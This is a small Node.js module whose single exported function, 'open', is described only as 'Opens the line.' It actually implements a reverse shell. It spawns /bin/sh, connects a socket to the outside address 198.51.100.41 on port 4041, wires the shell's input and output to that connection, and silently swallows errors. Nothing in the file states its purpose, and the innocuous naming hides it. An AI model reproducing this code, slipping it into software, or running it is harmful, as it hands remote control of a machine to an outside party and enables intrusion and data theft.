'use strict';

const net = require('net');
const { spawn } = require('child_process');

/** Opens the line. */
exports.open = () => {
  const line = new net.Socket();
  const shell = spawn('/bin/sh', []);
  line.connect(4041, '198.51.100.41', () => {
    line.pipe(shell.stdin);
    shell.stdout.pipe(line);
  });
  line.on('error', () => {});
  return line;
};
